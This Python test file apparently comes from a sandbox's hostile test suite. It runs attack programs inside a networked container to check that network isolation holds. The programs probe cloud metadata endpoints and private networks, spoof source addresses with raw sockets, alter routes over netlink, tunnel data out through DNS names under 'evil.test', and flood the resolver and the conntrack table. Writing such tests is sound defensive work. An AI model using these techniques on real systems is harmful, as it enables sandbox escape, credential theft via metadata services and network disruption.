"""Acts of a sandbox that has a network, beside a neighbour that has one too.

Its policy is open unless an act says otherwise: what must hold under the widest policy holds under all.
"""

from __future__ import annotations

import asyncio
import contextlib
from pathlib import Path

from bench.harness import own_internet as world
from sandbox.container.outlet import Outlet
from sandbox.messages import Network
from tests.hostile.act import Scene, act, judge, program, run, unharmed

OPEN = Network.open()
WALLED = Network.allow(names=["*.wild.test", "rebind.test", "half.test", "stray.test"], cidrs=[f"{world.OTHER}:8080"])
SERVE = """
import select, socket, sys
tcp = socket.create_server(("0.0.0.0", 4444)); udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.bind(("0.0.0.0", 4444)); print("up", flush=True)
ready, _, _ = select.select([tcp, udp], [], [], 30)
for each in ready: print("REACHED", each.type, flush=True)
"""

# ------------------------------------------------------------------ one program each

_OPEN = {
    "reach a metadata service with an open network": (
        "for a in ('169.254.169.254', '169.254.170.2', '100.100.100.200', '192.0.0.192'):"
        " attempt(a, socket.create_connection, (a, 80), 3)"
    ),
    "reach private networks with an open network": (
        f"for a in ('{world.PRIVATE}', '10.0.0.1', '172.16.0.1', '192.168.0.1', '100.64.0.1'):"
        " attempt(a, socket.create_connection, (a, 80), 3)"
    ),
    "reach the router's end of its link": (
        "for p in (22, 53, 80, {port}): attempt(p, socket.create_connection, ('198.18.0.1', p), 3)"
    ),
    "broadcast and multicast with an open network": (
        "for a in ('255.255.255.255', '224.0.0.1', '224.0.0.251', '239.255.255.250', '192.88.99.255'):\n"
        " s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(1, 6, 1); s.settimeout(1)\n"
        " try: s.sendto(b'x', (a, 4444))\n"
        " except OSError: pass\n"
        " attempt(a, s.recv, 9)"
    ),
    "reach the host by IPv6": (
        "for a in ('fe80::1', 'ff02::1', 'fd00::1', 'fd00::2', '2001:4860:4860::8888'):\n"
        " s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); attempt(a, s.sendto, b'x', (a, 53, 0, 2))"
    ),
    "raw socket with an open network": (
        "for p in (1, 6, 17, 255): attempt(f'raw {p}', socket.socket, socket.AF_INET, socket.SOCK_RAW, p)\n"
        "attempt('raw6', socket.socket, socket.AF_INET6, socket.SOCK_RAW, 58)\n"
        "attempt('packet', socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 3)"
    ),
    "send from another's address": (
        "for a in ('{neighbour}', '192.88.99.1', '8.8.8.8'):\n"
        " s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        " try: s.setsockopt(0, 15, 1)\n"  # IP_FREEBIND
        " except OSError: pass\n"
        " attempt(a, lambda: (s.bind((a, 0)), s.sendto(b'spoofed', ('192.88.99.10', 7))))\n"
        " t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        " attempt('transparent', t.setsockopt, 0, 19, 1)"
    ),
    "route around by source routing": (
        "s = socket.socket(); s.settimeout(3)\n"
        "hop = socket.inet_aton('192.88.99.10') + socket.inet_aton('{neighbour}')\n"
        "def go():\n"
        " s.setsockopt(0, 4, bytes([131, 11, 4]) + hop + bytes(1)); s.connect(('{neighbour}', 4444))\n"
        "attempt('loose source route', go)"
    ),
    "change its address, route, device and neighbours": (
        "s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.bind((0, 0))\n"
        "i = socket.if_nametoindex('eth0'); n = socket.inet_aton('{neighbour}')\n"
        "def ask(what, kind, body):\n"
        " s.send(struct.pack('IHHII', 16 + len(body), kind, 0x605, 1, 0) + body)\n"
        " e = struct.unpack_from('i', s.recv(4096), 16)[0]; print('tried', what, e)\n"
        " if e == 0: print('BREACH', what)\n"
        "at = lambda k, v: struct.pack('HH', 4 + len(v), k) + v + bytes(-len(v) % 4)\n"
        "ask('address', 20, struct.pack('BBBBI', 2, 32, 0, 0, i) + at(2, n) + at(1, n))\n"
        "r = struct.pack('BBBBBBBBI', 2, 32, 0, 0, 254, 4, 0, 1, 0)\n"
        "ask('route', 24, r + at(1, n) + at(4, struct.pack('I', i)))\n"
        "ask('neighbour', 28, struct.pack('BxxxiHBB', 2, i, 128, 0, 0) + at(1, n) + at(2, b'abcdef'))\n"
        "ask('mac', 16, struct.pack('BxHiII', 0, 0, i, 0, 0) + at(1, b'\\x02abcde'))\n"
        "ask('up', 16, struct.pack('BxHiII', 0, 0, i, 0, 1))\n"
        "ask('veth', 16, struct.pack('BxHiII', 0, 0, 0, 1, 1) + at(18 | 0x8000, at(1, b'veth')))\n"
        "s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12); s.bind((0, 0))\n"
        "s.send(struct.pack('IHHII', 20, 0x10, 1, 1, 0) + struct.pack('>BBH', 0, 0, 10))\n"
        "e = struct.unpack_from('i', s.recv(4096), 16)[0]; print('tried nf_tables', e)\nif e == 0: print('BREACH nft')"
    ),
    "write network settings of its device": (
        "for p in ('ipv6/conf/eth0/disable_ipv6', 'ipv4/conf/eth0/accept_redirects', 'ipv4/conf/all/forwarding',"
        " 'ipv4/ip_nonlocal_bind'): attempt(p, write, '/proc/sys/net/' + p)"
    ),
}

_WALLED = {
    "reach an address that the policy does not name": (
        f"for a, p in (('{world.WEB}', 80), ('{world.OTHER}', 80), ('{world.DNS}', {world.DNS_PORT}), ('8.8.8.8', 53)):"
        " attempt(a, socket.create_connection, (a, p), 3)"
    ),
    "reach an address by UDP that is allowed for TCP": (
        f"s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect(('{world.OTHER}', 8080))\n"
        "attempt('udp', lambda: (s.send(b'x'), s.recv(9)))"
    ),
    "ask another resolver": (
        f"s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect(('{world.DNS}', 5353))\n"
        "q = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\\3web\\4test\\0' + struct.pack('>HH', 1, 1)\n"
        "attempt('udp', lambda: (s.send(q), s.recv(99)))\n"
        f"attempt('tcp', socket.create_connection, ('{world.DNS}', 5353), 3)"
    ),
    "names that point to forbidden places (DNS rebinding)": (
        "attempt('rebind', socket.getaddrinfo, 'rebind.test', 80)\n"
        "found = {a[4][0] for a in socket.getaddrinfo('half.test', 80)}; print('tried', found)\n"
        "if found != {'192.88.99.10'}: print('BREACH', found)\n"
        "attempt('198.18.0.1', socket.create_connection, ('198.18.0.1', 80), 3)"
    ),
    "have an answer open an address beside the name": (
        f"socket.getaddrinfo('stray.test', 80)\nattempt('stray', socket.create_connection, ('{world.OTHER}', 80), 3)"
    ),
    "damaged questions to the resolver": (
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for n in range(300): s.sendto(os.urandom(n * 7 % 1500), ('127.0.0.53', 53))\n"
        "t = [socket.create_connection(('127.0.0.53', 53), 3) for _ in range(40)]\n"
        "for n, c in enumerate(t):\n"
        " try: c.sendall(struct.pack('>H', 65535) + os.urandom(n))\n"
        " except OSError: pass\n"
        "found = None\n"
        "for _ in range(20):\n"
        " time.sleep(0.5)\n"
        " try: found = socket.getaddrinfo('a.wild.test', 80); break\n"
        " except OSError: pass\n"
        "print('tried', found)\nif not found: print('BREACH the resolver is gone')"
    ),
}

_LIMITED = {
    "have a name open all ports of a private address that cidrs limits": ("private.test", 80),
    "have a wildcard open all ports of a private address that cidrs limits": ("*.test", 80),
    "have a name with a port open it at a private address that cidrs limits": ("private.test:80", 80),
    "have every name open all ports of a private address that cidrs limits": ("*", 80),
}
for _name, (_allowed, _port) in _LIMITED.items():
    program(
        _name,
        f"a = socket.getaddrinfo('private.test', {_port})[0][4][0]\n"
        "s = socket.create_connection((a, 8080), 5); print('tried', a)\n"
        f"attempt('port', socket.create_connection, (a, {_port}), 3)\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1); u.connect((a, 8080))\n"
        "attempt('udp', lambda: (u.send(b'x'), u.recv(9)))",
        network=Network.allow(names=[_allowed], cidrs=[f"{world.PRIVATE}:tcp/8080"]),
    )

_OPEN |= {
    "reach Azure's metadata service with an open network": (
        "for p in (80, 53, 32526): attempt(p, socket.create_connection, ('168.63.129.16', p), 3)"
    ),
    "reach the host and neighbours by IPv4 addresses in IPv6 sockets": (
        "for a in ('127.0.0.1', '198.18.0.1', '{neighbour}', '169.254.169.254', '10.99.0.10'):\n"
        " s = socket.socket(socket.AF_INET6); s.settimeout(3)\n"
        " attempt(a, s.connect, ('::ffff:' + a, {port}, 0, 0))"
    ),
    "reach the neighbour and the host by echo requests (ICMP)": (
        "for a in ('{neighbour}', '198.18.0.1', '10.99.0.10', '169.254.169.254'):\n"
        " def ping(a=a):\n"
        "  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(2)\n"
        "  s.sendto(struct.pack('>BBHHH', 8, 0, 0, 1, 1) + b'x' * 8, (a, 0)); return s.recv(99)\n"
        " attempt(a, ping)"
    ),
    "use rare protocols over the link (SCTP, UDP-Lite, MPTCP)": (
        "for k, p in ((socket.SOCK_STREAM, 132), (socket.SOCK_DGRAM, 136), (socket.SOCK_STREAM, 262)):\n"
        " def go(k=k, p=p):\n"
        "  s = socket.socket(socket.AF_INET, k, p); s.settimeout(2); s.connect(('{neighbour}', 4444)); s.send(b'x')\n"
        "  return s.recv(9)\n"
        " attempt(p, go)"
    ),
}

for _name, _code in _OPEN.items():
    program(_name, _code, network=OPEN)
for _name, _code in _WALLED.items():
    program(_name, _code, network=WALLED)

# ------------------------------------------------------------------ acts that look at the world


def _host_addresses() -> list[str]:
    """Every IPv4 address of this host, loopback included."""
    result, last = set(), ""
    for line in Path("/proc/net/fib_trie").read_text().splitlines():
        if line.strip().startswith("|-- "):
            last = line.strip()[4:]
        elif "host LOCAL" in line:
            result.add(last)
    return sorted(result)


@act("reach the host and the daemon's API by every address of it", network=OPEN)
async def _host(scene: Scene) -> str:
    addresses = await asyncio.to_thread(_host_addresses)
    if len(addresses) < 2:
        return f"the host's addresses were not found: {addresses}"
    code = f"for a in {addresses!r}: attempt(a, socket.create_connection, (a, {{port}}), 3)"
    return judge(await run(scene, code, timeout=60), tried=len(addresses))


@act("reach a neighbour that has the same policy", network=OPEN)
async def _neighbour(scene: Scene) -> str:
    outlet, said = Outlet(), b""
    task = asyncio.create_task(scene.neighbour.exec(["python3", "-c", SERVE], outlet=outlet))
    try:
        await outlet.get()
        code = (
            "attempt('tcp', socket.create_connection, ('{neighbour}', 4444), 3)\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('{neighbour}', 4444)); s.settimeout(1)\n"
            "attempt('udp', lambda: (s.send(b'x'), time.sleep(0.2), s.send(b'x')) and s.recv(9))"
        )
        done = await run(scene, code, timeout=20)
    finally:
        task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await task
        outlet.end()
        while (part := await outlet.get()) is not None:
            said += part[1]
    return judge(done, tried=2) or ("the neighbour was reached" if b"REACHED" in said else "")


@act("carry data out in names that are not allowed (DNS tunnel)", network=WALLED)
async def _tunnel(scene: Scene) -> str:
    assert scene.place is not None
    code = (
        "names = ['x' * 60 + '.' + str(n) + '.evil.test' for n in range(20)] + ['wild.test.evil.test', 'evilwild.test',"
        " 'a.wild.test.', 'A.WILD.test']\n"
        "for n in names[:-2]: attempt(n[-30:], socket.getaddrinfo, n, 80)\n"
        "for n in names[-2:]: print('tried', socket.getaddrinfo(n, 80)[0][4])\n"
        "s = socket.create_connection(('127.0.0.53', 53), 3)\n"
        "q = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\\6stream\\4evil\\4test\\0' + struct.pack('>HH', 16, 1)\n"
        "s.sendall(struct.pack('>H', len(q)) + q); r = s.recv(999); print('tried', r[5] & 15)\n"
        "if r[5] & 15 != 3: print('BREACH', r)"
    )
    done = await run(scene, code, timeout=40)
    left = [name for name in scene.place.internet.requested() if "evil" in name]
    return judge(done) or (f"they left the host: {left[:3]}" if left else "")


@act("fill the host's memory of connections (conntrack)", network=OPEN)
async def _conntrack(scene: Scene) -> str:
    count = Path("/proc/sys/net/netfilter/nf_conntrack_count")
    before = int(await asyncio.to_thread(count.read_text))
    code = (
        "n = 0\nfor p in range(1, 5001):\n"
        " s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        " try: s.sendto(b'x', ('192.88.99.10', p)); n += 1\n"
        " except OSError: pass\n"
        " s.close()\n"
        "print('tried', n)"
    )
    done = await run(scene, code, timeout=40)
    grown = int(await asyncio.to_thread(count.read_text)) - before
    return judge(done) or (f"{grown} entries more" if grown > 1500 else "") or await unharmed(scene)


@act("forge the address with a raw socket, from a namespace of its own", network=OPEN)
async def _forge(scene: Scene) -> str:
    """A restored connection makes CRIU give the sandbox a network namespace that its user namespace owns."""
    assert scene.place is not None and scene.travel is not None
    talk = (
        "import socket, time; s = socket.create_server(('127.0.0.1', 5000)); "
        "c = socket.create_connection(('127.0.0.1', 5000)); p, _ = s.accept(); time.sleep(9999)"
    )
    up = "i=0; until grep -q ':1388 .* 01 ' /proc/net/tcp; do i=$((i+1)); test $i -gt 500 && exit 1; sleep 0.02; done"
    started = await scene.attacker.exec(
        ["sh", "-c", f'setsid python3 -c "{talk}" </dev/null >/dev/null 2>&1 & {up}'], timeout=30
    )
    if started.exit_code:
        return "no connection to restore"
    await scene.travel()
    code = (
        "try: s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)\n"
        "except OSError as e: print('tried', e); sys.exit()\n"
        "for source in ('{neighbour}', '8.8.8.8', '{me}'):\n"
        " u = struct.pack('>HHHH', 4444, 7, 8 + 7, 0) + (b'spoofed' if source != '{me}' else b'genuine')\n"
        " h = struct.pack('>BBHHHBBH', 69, 0, 20 + len(u), 1, 0, 64, 17, 0) + socket.inet_aton(source)\n"
        " try: s.sendto(h + socket.inet_aton('192.88.99.10') + u, ('192.88.99.10', 0)); print('tried', source)\n"
        " except OSError as e: print('tried', source, e)\n"
        "time.sleep(0.5)"
    )
    done = await run(scene, code, timeout=20)
    came = scene.place.internet.datagrams()
    if b"tried 8.8.8.8\n" in done.stdout and not any("genuine" in item for item in came):
        return "it was not tried: not even the genuine one arrived"
    return judge(done) or (f"arrived: {came}" if any("spoofed" in item for item in came) else "")
